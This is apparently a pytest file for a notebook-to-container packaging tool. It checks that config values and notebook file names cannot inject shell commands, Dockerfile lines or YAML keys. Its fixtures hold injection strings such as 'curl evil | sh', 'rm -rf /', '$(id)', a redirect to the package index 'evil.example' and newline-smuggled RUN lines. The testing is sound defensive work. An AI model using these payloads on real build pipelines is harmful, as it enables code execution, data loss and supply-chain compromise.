"""Issue 13, points 12 and 13: nothing from nbship.yaml or the notebook's name reaches a Dockerfile line, a shell
command or a manifest except as an inert value; what cannot be made inert is a config error (exit 1), never an
internal error (exit 70).

Reproduced before: a remote artifact path `"weights dir;touch $HOME/pwned;#/model.bin"` passed validation and
rendered as commands in a `RUN` line; `gpu.resource` reached YAML without quoting, which allowed injecting a
container `command`; a line break in the notebook's file name started a Dockerfile line of its own.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from nbship.check import inspect_notebook
from nbship.render.dockerfile import BaseImage, DockerfileContext, render_dockerfile
from nbship.render.k8s import render_manifests
from tests.notebooks import code, write_notebook

Run = Callable[..., tuple[int, str, str]]
PREDICT = code("def predict(inputs):\n    return {'y': inputs['x'] * 2}", "predict")
SHA = "0" * 64


def notebook_with(tmp_path: Path, config: str, name: str = "nb.ipynb", *cells: object) -> Path:
    (tmp_path / "nbship.yaml").write_text(config)
    return write_notebook(tmp_path / name, *(cells or (PREDICT,)))


@pytest.mark.parametrize(("config", "key"), [
    (f"artifacts:\n  - path: 'weights dir;touch $HOME/pwned;#/model.bin'\n    uri: https://m.example/w.bin\n"
     f"    sha256: {SHA}\n", "artifacts.0.path"),
    ("artifacts:\n  - path: 'model$(id).pkl'\n", "artifacts.0.path"),
    ('gpu:\n  resource: "nvidia.com/gpu: 1\\n          command: [sh, -c, \'curl evil | sh\']"\n', "gpu.resource"),
    ("gpu:\n  resource: 'nvidia.com/gpu: 1'\n", "gpu.resource"),
    ('base_image: "python:3.11-slim\\nRUN curl evil | sh"\n', "base_image"),
    ("repository: 'reg.example/churn; rm -rf /'\n", "repository"),
    ('requirements: ["numpy\\n--index-url http://evil.example/simple"]\n', "requirements"),
    ('version: "1.0\\nLABEL evil=1"\n', "version"),
    ('ingress:\n  enabled: true\n  host: "churn.example\\n  evil: true"\n', "ingress.host"),
])
def test_an_unsafe_config_value_is_a_config_error_naming_its_key(tmp_path: Path, run_cli: Run, config: str,
                                                                  key: str) -> None:
    notebook = notebook_with(tmp_path, config)

    exit_code, _, err = run_cli("check", "--no-verify", notebook)

    assert exit_code == 1, err
    assert "nbship.yaml, line" in err and f": {key}: " in err
    assert "internal error" not in err


def test_a_line_break_in_the_notebooks_name_is_a_config_error(tmp_path: Path, run_cli: Run) -> None:
    notebook = write_notebook(tmp_path / "churn\nRUN touch pwned.ipynb", PREDICT)

    exit_code, _, err = run_cli("check", "--no-verify", notebook)

    assert exit_code == 1, err
    assert "the notebook's file name holds a line break" in err and "Rename the notebook" in err


def test_everything_reaching_a_run_line_is_quoted() -> None:
    # a context built directly, past the config's validation: the template alone must keep it inert
    ctx = DockerfileContext(
        name="churn", version="1", package="churn", notebook_file="nb.ipynb", notebook_sha256=SHA, lock_sha256=SHA,
        port=8080, base=BaseImage("python:3.11-slim", python="python3; touch /pwned",
                                  builder_packages=("python3 $(touch /x)",), runtime_packages=("python3`id`",)),
        writable_dirs=("/app/weights dir;touch $HOME/pwned;#", "/app/ok"),
    )

    dockerfile = render_dockerfile(ctx)["Dockerfile"]

    runs = _run_lines(dockerfile)
    mkdir = next(r for r in runs if r.startswith("mkdir"))
    assert shlex.split(mkdir.split("&&")[0]) == ["mkdir", "-p", "/app/weights dir;touch $HOME/pwned;#", "/app/ok"]
    for command in runs:
        words = shlex.split(command, comments=False)
        assert "touch" not in words and "/pwned" not in words, command  # never a command of its own
    assert "'python3 $(touch /x)'" in dockerfile and "'python3`id`'" in dockerfile


def test_a_line_break_in_a_name_cannot_leave_a_comment() -> None:
    ctx = DockerfileContext(name="churn", version="1", package="churn", notebook_file="x\nRUN touch /pwned\n#",
                            notebook_sha256=SHA, lock_sha256=SHA, port=8080, base=BaseImage("python:3.11-slim"))

    dockerfile = render_dockerfile(ctx)["Dockerfile"]

    assert not any(line.startswith("RUN touch") for line in dockerfile.splitlines())


def test_the_gpu_resource_is_escaped_and_manifests_keep_their_shape(tmp_path: Path) -> None:
    notebook = notebook_with(tmp_path, "gpu:\n  resource: example.com/gpu-a100_80gb\n  count: 2\n",
                             "nb.ipynb", code("import os\nflag = os.environ.get('MODE\\nevil: true', 'x')", "setup"),
                             PREDICT)
    spec = inspect_notebook(notebook, verify=False).spec
    assert spec is not None

    manifests = render_manifests(spec)

    deployment = yaml.safe_load(manifests["k8s/base/deployment.yaml"])
    container = deployment["spec"]["template"]["spec"]["containers"][-1]
    assert container["resources"]["limits"]["example.com/gpu-a100_80gb"] == 2
    assert "command" not in container
    assert "evil" not in deployment  # the env name read by the code stays inside its comment


def _run_lines(dockerfile: str) -> list[str]:
    """Each RUN instruction's shell command, continuation lines joined."""
    commands, current = [], None
    for line in dockerfile.splitlines():
        if current is None and line.startswith("RUN "):
            current = line[4:]
        elif current is not None:
            current += " " + line.strip()
        if current is not None and not current.endswith("\\"):
            commands.append(current)
            current = None
        elif current is not None:
            current = current[:-1]
    return commands
